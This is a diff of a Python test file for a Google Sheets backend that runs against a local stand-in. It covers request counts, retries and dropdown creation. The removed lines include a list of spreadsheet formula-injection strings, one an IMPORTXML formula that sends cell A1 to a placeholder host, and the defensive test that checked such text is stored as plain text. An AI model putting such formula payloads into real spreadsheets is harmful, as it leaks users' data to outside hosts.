@@ -1,4 +1,6 @@
-"""GoogleBackend through the real gspread and google-auth code, against the local stand-in."""
+"""GoogleBackend through the real gspread and google-auth code, against the local stand-in: what
+only Google has (requests, retries, metadata, grid limits, the key file). The guarantees every
+backend gives are in test_workbook_backends.py."""
 
 from __future__ import annotations
 
@@ -15,7 +17,6 @@ from tovholder.sheets.batch import Batch, NewTab
 from tovholder.sheets.google import GoogleBackend
 
 SHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz"
-HOSTILE = ('=IMPORTXML("https://x/?"&A1)', "+1", "@SUM(1)", "-2+3", "=1+1", "'quoted")
 
 standin = pytest.fixture(sheets_standin.running)
 
@@ -40,13 +41,10 @@ def backend(standin: SheetsStandin, **kwargs: object) -> GoogleBackend:
     return GoogleBackend(SHEET, session=standin.session(), **kwargs)  # type: ignore[arg-type]
 
 
-def test_read_returns_every_tab_as_strings_with_one_batch_get_after_metadata(standin):
+def test_read_costs_one_batch_get_after_the_metadata(standin):
     seed(standin)
     snap = backend(standin).read()
-    assert list(snap) == ["Medlemmer", "Opgaver", "Møder", "Bob's tab", "Svar", "Log"]
-    assert snap["Medlemmer"][1] == ["Anna Holm", "anna@example.org", "aktiv", "004512345678"]
-    assert snap["Medlemmer"][2] == ["Bo Berg", "bo@example.org", "afventer"]  # trailing trimmed
-    assert snap["Bob's tab"] == [["Note"], ["hej"]]
+    assert all(isinstance(v, str) for rows in snap.values() for row in rows for v in row)
     assert standin.requests == [("GET", f"/v4/spreadsheets/{SHEET}"),
                                 ("GET", f"/v4/spreadsheets/{SHEET}/values:batchGet")]
 
@@ -91,20 +89,6 @@ def test_append_only_apply_is_a_single_batch_update(standin):
     assert standin.requests == [("POST", f"/v4/spreadsheets/{SHEET}:batchUpdate")]
 
 
-def test_hostile_text_lands_as_text_and_no_formula_cell_is_created(standin):
-    seed(standin)
-    b = backend(standin)
-    b.read()
-    batch = Batch()
-    batch.append("Svar", HOSTILE)
-    batch.append("Log", *[(h, h, h, h) for h in HOSTILE])
-    batch.set_cell("Opgaver", 3, 2, HOSTILE[0], key_col=1, key_value="2")
-    b.apply(batch)
-    assert standin.formula_cells(SHEET) == []
-    assert standin.values(SHEET, "Svar")[1] == list(HOSTILE)
-    assert b.read()["Opgaver"][2][1] == HOSTILE[0]
-
-
 def test_standin_turns_user_entered_equals_into_formula_but_not_raw(standin):
     seed(standin)
     ws = gspread.Client(None, session=standin.session()).open_by_key(SHEET).worksheet("Log")
@@ -114,32 +98,6 @@ def test_standin_turns_user_entered_equals_into_formula_but_not_raw(standin):
     assert standin.formula_cells(SHEET) == [("Log", "A2", "=1+1")]
     assert standin.values(SHEET, "Log")[1:] == [["=1+1", "", "=2+2", "004512345678"],
                                                  ["45", "TRUE"]]
-
-
-def test_key_recheck_reports_conflict_when_chair_sorted_rows_between_read_and_write(standin):
-    seed(standin)
-    b = backend(standin)
-    snap = b.read()
-    header, *rows = snap["Opgaver"]
-    standin.set_rows(SHEET, "Opgaver", [header, *reversed(rows)])  # the chair sorts descending
-    batch = Batch()
-    batch.set_cell("Opgaver", 2, 4, "færdig", key_col=1, key_value="1")  # row 2 was Nr 1
-    batch.set_cell("Opgaver", 3, 4, "droppet", key_col=1, key_value="2")  # row 3 is still Nr 2
-    result = b.apply(batch)
-    assert [(c.write.key_value, c.found) for c in result.conflicts] == [("1", "3")]
-    assert result.cells_written == 1
-    values = standin.values(SHEET, "Opgaver")
-    assert [r[3] for r in values[1:]] == ["åben", "droppet", "åben"]
-
-
-def test_key_match_ignores_case_and_surrounding_spaces(standin):
-    seed(standin)
-    b = backend(standin)
-    b.read()
-    batch = Batch()
-    batch.set_cell("Medlemmer", 2, 3, "udtrådt", key_col=2, key_value=" ANNA@example.org ")
-    assert b.apply(batch).conflicts == []
-    assert standin.values(SHEET, "Medlemmer")[1][2] == "udtrådt"
 
 
 def test_429_then_success_is_retried_after_one_wait(standin):
@@ -217,56 +175,21 @@ def test_renamed_tab_refetches_metadata_once_and_retries(standin):
         "values:batchGet", SHEET, "values:batchGet"]
 
 
-def test_deleted_tab_between_read_and_apply_makes_its_cells_conflicts(standin):
+def test_create_tabs_makes_dropdowns_in_one_batch_update(standin):
+    # (what every backend's create_tabs does is in test_workbook_backends.py)
     seed(standin)
     b = backend(standin)
-    b.read()
-    standin.delete_tab(SHEET, "Opgaver")
-    batch = Batch()
-    batch.set_cell("Opgaver", 2, 4, "færdig", key_col=1, key_value="1")
-    batch.append("Log", ("t", "k", "n", "s"))
-    result = b.apply(batch)
-    assert [c.found for c in result.conflicts] == [""]
-    assert result.appended_rows == 1
-
-
-def test_titles_with_spaces_danish_letters_and_apostrophes_round_trip(standin):
-    titles = ["Bob's tab", "Møder & høringer", "Årsplan 'x'", "Svar (2025)"]
-    standin.create_spreadsheet(SHEET, {t: [["h"], ["v"]] for t in titles})
-    b = backend(standin)
-    assert list(b.read()) == titles
-    batch = Batch()
-    for t in titles:
-        batch.append(t, (t,))
-        batch.set_cell(t, 2, 2, "ok", key_col=1, key_value="v")
-    result = b.apply(batch)
-    assert result.conflicts == []
-    assert all(standin.values(SHEET, t) == [["h"], ["v", "ok"], [t]] for t in titles)
-
-
-def test_create_tabs_adds_missing_tabs_with_dropdowns_and_skips_existing(standin):
-    seed(standin)
-    b = backend(standin)
-    before = standin.values(SHEET, "Medlemmer")
     standin.reset_counts()
-    created = b.create_tabs([
-        NewTab("medlemmer", (("Navn", "E-mail"),)),  # exists (titles compare case-blind)
+    b.create_tabs([
         NewTab("Dagsorden", (("Møde", "Nr", "Punkt", "Status"), ("2025-03-04", "1", "=x", "")),
                dropdowns=((4, ("planlagt", "behandlet")),), column_widths=(12, 4, 40)),
-        NewTab("Høringer", (("Titel",),)),
     ])
-    assert created == ["Dagsorden", "Høringer"]
     assert [m for m, _ in standin.requests] == ["GET", "POST"]
-    assert standin.values(SHEET, "Medlemmer") == before
-    assert standin.values(SHEET, "Dagsorden")[1] == ["2025-03-04", "1", "=x"]
-    assert standin.formula_cells(SHEET) == []
     (rule,) = standin.validations(SHEET, "Dagsorden")
     assert rule["range"]["startColumnIndex"] == 3 and rule["range"]["startRowIndex"] == 1
     assert rule["rule"]["condition"] == {"type": "ONE_OF_LIST", "values": [
         {"userEnteredValue": "planlagt"}, {"userEnteredValue": "behandlet"}]}
     assert rule["rule"]["strict"] is False and rule["rule"]["showCustomUi"] is True
-    assert b.create_tabs([NewTab("Dagsorden", ())]) == []
-    assert "Høringer" in b.read()
 
 
 def test_writing_outside_the_grid_is_refused_but_appends_grow_it(standin):
@@ -339,12 +262,3 @@ def test_standin_range_reads_trim_like_google(standin):
     assert "values" not in got[3]
 
 
-def test_read_tabs_fetches_only_the_named_tabs_in_one_request(standin) -> None:  # noqa: ANN001
-    standin.create_spreadsheet("few", {"Medlemmer": [["Navn"], ["Ann"]], "Log": [["Tid"]] * 500,
-                                       "Møder": [["Dato"]]})
-    backend = GoogleBackend("few", session=standin.session())
-    backend.read()  # metadata cached
-    standin.reset_counts()
-    assert backend.read_tabs(["Medlemmer", "Møder", "Findes ikke"]) == {
-        "Medlemmer": [["Navn"], ["Ann"]], "Møder": [["Dato"]]}
-    assert len(standin.requests) == 1
